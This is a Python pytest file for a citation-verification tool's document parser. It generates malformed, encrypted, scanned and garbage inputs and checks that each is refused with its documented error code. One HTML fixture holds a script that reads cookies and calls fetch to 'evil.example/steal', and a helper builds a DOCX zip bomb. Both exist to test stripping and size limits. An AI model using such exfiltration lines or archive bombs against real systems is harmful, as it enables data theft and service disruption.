"""Files for parser tests, generated on the fly (never committed), and checks that each kind of
bad input is refused by `parse_bytes` with its documented error code.

The helpers are imported by the parser's integration tests as well.
"""

from __future__ import annotations

import io
import random
import zipfile

import pikepdf
import pytest

from citeproof.devkit.pdfgen.plain import BODY_SENTENCES, make_pdf, paper_pages
from citeproof.parser.errors import ERROR_CODES, ParseFailure
from citeproof.parser.extract import parse_bytes
from citeproof.parser.settings import ParserSettings


def encrypted_pdf() -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf(paper_pages(1)))) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
        return out.getvalue()


def scanned_pdf(pages: int = 2) -> bytes:
    """Pages with a drawn image-like rectangle but no text at all, as a scan without OCR."""
    pdf = pikepdf.new()
    for _ in range(pages):
        page = pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=[0, 0, 612, 792],
            Contents=pdf.make_stream(b"0.5 g 50 50 500 700 re f"),
        )
        pdf.pages.append(pikepdf.Page(page))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = make_pdf(paper_pages(3))
    return data[: len(data) // 2]


def corrupt_pdf() -> bytes:
    rng = random.Random(7)
    return b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(4000))


def garbage_bytes() -> bytes:
    rng = random.Random(11)
    return b"\x00\x01" + bytes(rng.randrange(256) for _ in range(8000))


def make_docx(paragraphs: list[str], heading: str = "Findings") -> bytes:
    import docx

    document = docx.Document()
    document.add_heading(heading, 1)
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_bomb(inflated_bytes: int) -> bytes:
    """A DOCX whose document part inflates to `inflated_bytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * inflated_bytes)
    return out.getvalue()


HTML_WITH_SCRIPTS = b"""<!DOCTYPE html>
<html><head><title>Notes</title>
<script>document.cookie = "SCRIPTSECRET"; fetch("https://evil.example/steal");</script>
<style>.x { color: red } STYLESECRET</style></head>
<body><h1>Results</h1>
<p onclick="alert('HANDLERSECRET')">Dense retrieval improved recall by 4.2 points.</p>
<script>console.log("INLINESECRET")</script>
<p>The judge agreed with annotators in most cases, e.g. 91 of 100.</p>
</body></html>"""


def settings(**overrides) -> ParserSettings:
    return ParserSettings(**overrides)


@pytest.mark.parametrize(
    ("data", "code", "overrides"),
    [
        (b"", "empty_document", {}),
        (truncated_pdf(), "corrupt_file", {}),
        (corrupt_pdf(), "corrupt_file", {}),
        (encrypted_pdf(), "encrypted", {}),
        (scanned_pdf(), "no_text_layer", {}),
        (garbage_bytes(), "unsupported_type", {}),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "unsupported_type", {}),
        (make_pdf(paper_pages(2)), "too_large", {"max_file_bytes": 500}),
        (make_pdf(paper_pages(5)), "too_many_pages", {"max_pages": 3}),
        (docx_bomb(20 * 1024 * 1024), "archive_bomb", {"max_unzipped_bytes": 10 * 1024 * 1024}),
        (docx_bomb(5 * 1024 * 1024), "archive_bomb", {}),
        (b"   \n\n\t  \n", "empty_document", {}),
    ],
    ids=[
        "zero-bytes",
        "truncated-pdf",
        "corrupt-pdf",
        "encrypted-pdf",
        "scanned-pdf",
        "binary-garbage",
        "png-image",
        "over-size-cap",
        "over-page-cap",
        "docx-bomb-size",
        "docx-bomb-ratio",
        "whitespace-only",
    ],
)
def test_bad_input_fails_with_its_documented_code(data, code, overrides) -> None:
    with pytest.raises(ParseFailure) as failure:
        parse_bytes(data, "upload.pdf", None, settings(**overrides))
    assert failure.value.code == code
    assert failure.value.code in ERROR_CODES
    # A sentence a person understands, not a traceback.
    assert failure.value.detail.endswith(".") and len(failure.value.detail) > 15


def test_generated_pdf_parses_without_running_headers_or_page_numbers() -> None:
    parsed = parse_bytes(make_pdf(paper_pages(4)), "paper.pdf", None, settings())
    assert parsed.detected_type == "pdf"
    assert parsed.pages == 4
    assert len(parsed.page_starts) == 4
    assert "Journal of Test Studies" not in parsed.text
    for chunk in parsed.chunks:
        assert chunk.text == parsed.text[chunk.char_start : chunk.char_end]
        assert not any(line.strip().isdigit() for line in chunk.text.splitlines())
    assert parsed.chunks[-1].page_end == 4


def test_html_scripts_are_stripped_and_never_indexed() -> None:
    parsed = parse_bytes(HTML_WITH_SCRIPTS, "notes.html", "text/html", settings())
    assert parsed.detected_type == "html"
    assert "Dense retrieval improved recall by 4.2 points." in parsed.text
    for secret in ("SCRIPTSECRET", "STYLESECRET", "HANDLERSECRET", "INLINESECRET", "evil"):
        assert secret not in parsed.text
        assert all(secret not in chunk.text for chunk in parsed.chunks)


def test_content_wins_over_the_name_and_the_mismatch_is_noted() -> None:
    parsed = parse_bytes(make_pdf(paper_pages(1)), "thesis.docx", None, settings())
    assert parsed.detected_type == "pdf"
    assert any("DOCX" in note and "PDF" in note for note in parsed.notes)


def test_docx_markdown_and_text_parse_with_headings() -> None:
    docx_doc = parse_bytes(make_docx(BODY_SENTENCES), "a.docx", None, settings())
    assert docx_doc.detected_type == "docx"
    assert docx_doc.chunks[0].heading == "Findings"
    markdown = "# Method\n\n" + " ".join(BODY_SENTENCES) + "\n\n## Data\n\nWe used 12 corpora.\n"
    md_doc = parse_bytes(markdown.encode(), "notes.txt", None, settings())
    assert md_doc.detected_type == "markdown"
    assert {chunk.heading for chunk in md_doc.chunks} >= {"Method", "Data"}
    text_doc = parse_bytes("\n\n".join(BODY_SENTENCES).encode(), "notes.txt", None, settings())
    assert text_doc.detected_type == "text"
    assert "Fig. 3" in text_doc.text


def test_unstructured_pdf_engine_finds_text_with_the_packaged_spacy_model() -> None:
    # Without the spaCy wiring, partition_pdf tries to download en_core_web_sm, fails quietly
    # offline and returns no elements at all.
    from citeproof.parser.unstructured_io import spacy_model_dir

    assert (spacy_model_dir() / "config.cfg").is_file()
    parsed = parse_bytes(
        make_pdf(paper_pages(2)), "p.pdf", None, settings(pdf_engine="unstructured")
    )
    assert "Citation verification checks whether" in parsed.text
    assert parsed.chunks
